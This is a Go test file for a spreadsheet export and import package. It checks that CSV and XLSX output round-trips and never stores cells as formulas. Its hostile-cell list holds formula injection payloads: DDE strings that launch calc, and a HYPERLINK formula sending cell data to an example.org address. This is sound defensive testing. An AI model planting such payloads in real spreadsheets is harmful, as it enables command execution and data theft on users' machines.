package spreadsheet

import (
	"archive/zip"
	"bufio"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// forms are the ways of writing a table.
var forms = map[string]func(io.Writer, []Column) (Writer, error){
	"csv with semicolons": func(w io.Writer, c []Column) (Writer, error) { return NewCSVWriter(w, ';', c) },
	"csv with commas":     func(w io.Writer, c []Column) (Writer, error) { return NewCSVWriter(w, ',', c) },
	"xlsx":                NewXLSXWriter,
}

var tableColumns = []Column{{Name: "Номер"}, {Name: "Наименование"}, {Name: "Телефон", Number: true}, {Name: "Слова"}}

// writtenTable is a file with the rows under tableColumns.
func writtenTable(t interface {
	Helper()
	Fatal(...any)
}, form func(io.Writer, []Column) (Writer, error), rows [][]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := form(&buf, tableColumns)
	for _, row := range rows {
		if err == nil {
			err = w.Write(row)
		}
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// readTable is what an import sees.
func readTable(content []byte) ([][]string, error) {
	r, err := New("list", bytes.NewReader(content), int64(len(content)), Options{})
	if err != nil {
		return nil, err
	}
	var rows [][]string
	for row, problem := range r.Rows() {
		if problem != nil {
			return nil, errors.Join(problem, r.Close())
		}
		rows = append(rows, row.cells)
	}
	return rows, r.Close()
}

// hostileCells are orders to somebody else's program, and what looks like the end of a cell, a row or a file.
var hostileCells = []string{
	`=HYPERLINK("http://example.org?x="&A1,"ok")`, `=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠x", `'=1+1`, `''=1+1`, `'`, `''`, `'+7 900 000-00-00`, "+7 900 000-00-00", "-5", "-1-1", "+", "-", "=",
	`";=1+1;"`, `"`, `""`, `;`, `,`, "a;b,c\td|e", "две\nстроки", "sep=,", "\ufeffa", "_x003D_1+1", "_x000D_", "<f>1+1</f>", "]]>&lt;", " края ", "\\.", "", "0105001241", "1E5", "TRUE", "2026-11-23",
	"😀👩‍👩‍👧", "\u202egnp.exe", "\u2028\u2029\u0085", "#REF!",
}

// What is exported and imported again is what it was, whatever it is, and nothing of it is a formula on the way.
func TestExportedIsImported(t *testing.T) {
	t.Parallel()
	cell := rapid.OneOf(rapid.SampledFrom(hostileCells), rapid.Map(rapid.SliceOfN(rapid.SampledFrom(hostileCells), 1, 3), func(parts []string) string { return strings.Join(parts, "") }),
		rapid.Map(rapid.StringN(0, 40, -1), writable))
	for name, form := range forms {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rapid.Check(t, func(t *rapid.T) {
				rows := make([][]string, rapid.IntRange(1, 6).Draw(t, "rows"))
				for i := range rows {
					rows[i] = []string{strconv.Itoa(i + 1), cell.Draw(t, "name"), cell.Draw(t, "phone"), cell.Draw(t, "words")}
				}
				got, err := readTable(writtenTable(t, form, rows))
				if err != nil || !slices.EqualFunc(got, rows, slices.Equal) {
					t.Fatalf("%q\nbecame\n%q, %v", rows, got, err)
				}
			})
		})
	}
}

// Excel reads a cell that begins with a sign as a formula; one that begins with an apostrophe it does not. Numbers keep
// their signs where they belong, and nothing else does.
func TestNoFormulaInCSV(t *testing.T) {
	t.Parallel()
	for _, hostile := range hostileCells {
		content := string(writtenTable(t, forms["csv with semicolons"], [][]string{{"1", hostile, hostile, "x"}}))
		line := strings.TrimPrefix(content, "\ufeff"+strings.Join(names(tableColumns), ";")+"\r\n")
		s := &csvSource{in: bufio.NewReader(strings.NewReader(line)), sep: ';', line: 1, opts: Options{}.withDefaults()}
		for column := range 3 {
			row := rawRow{}
			if _, err := s.cell(&row); err != nil {
				t.Fatal(err)
			}
			stored := string(s.buf) // before the guard is taken away
			number := column == 2 && harmless.MatchString(strings.TrimLeft(hostile, " \u00a0"))
			if column > 0 && isFormula(stored) && !number {
				t.Errorf("column %d of %q stands as %q", column, hostile, stored)
			}
			if column == 2 && number && stored != hostile {
				t.Errorf("the number %q stands as %q", hostile, stored)
			}
		}
	}
	if got := string(writtenTable(t, forms["csv with commas"], [][]string{{"1", "+7 900 000-00-00", "+7 900 000-00-00", "=1"}})); !strings.HasPrefix(got, "\ufeff") || !strings.HasSuffix(got, "\r\n1,'+7 900 000-00-00,+7 900 000-00-00,'=1\r\n") {
		t.Errorf("%q", got)
	}
}

// No cell of a workbook is anything but a text.
func TestNoFormulaInXLSX(t *testing.T) {
	t.Parallel()
	var rows [][]string
	for _, hostile := range hostileCells {
		rows = append(rows, []string{hostile, hostile, hostile, hostile})
	}
	content := writtenTable(t, NewXLSXWriter, rows)
	archive, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	cells := 0
	for _, part := range archive.File {
		if !strings.HasPrefix(part.Name, "xl/worksheets/") {
			continue
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		decoder := xml.NewDecoder(r)
		for {
			token, err := decoder.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			start, ok := token.(xml.StartElement)
			if !ok {
				continue
			}
			switch start.Name.Local {
			case "f", "hyperlink", "v":
				t.Errorf("there is an element %s", start.Name.Local)
			case "c":
				cells++
				if !slices.ContainsFunc(start.Attr, func(a xml.Attr) bool { return a.Name.Local == "t" && a.Value == "inlineStr" }) {
					t.Errorf("a cell that is no text: %v", start.Attr)
				}
			}
		}
	}
	if cells < 4*len(rows) {
		t.Errorf("only %d cells", cells)
	}
}

// What no file can hold is left out, and a text longer than a cell of Excel says that it goes on.
func TestTextsThatDoNotFit(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("слово ", 6000) + strings.Repeat("😀", 2000)
	for name, form := range forms {
		got, err := readTable(writtenTable(t, form, [][]string{{"1", "a\r\nb\rc", "a\x00\x1b[31mb\xff", long}}))
		if err != nil || len(got) != 1 {
			t.Fatal(name, err)
		}
		if got[0][1] != "a\nb\nc" || got[0][2] != "a[31mb\ufffd" {
			t.Errorf("%s: %q", name, got[0][1:3])
		}
		if cut := strings.TrimSuffix(got[0][3], "…"); name == "xlsx" && (cut == got[0][3] || !strings.HasPrefix(long, cut) || len([]rune(cut)) < 32_000) || name != "xlsx" && got[0][3] != long {
			t.Errorf("%s: %d characters", name, len([]rune(got[0][3])))
		}
	}
}
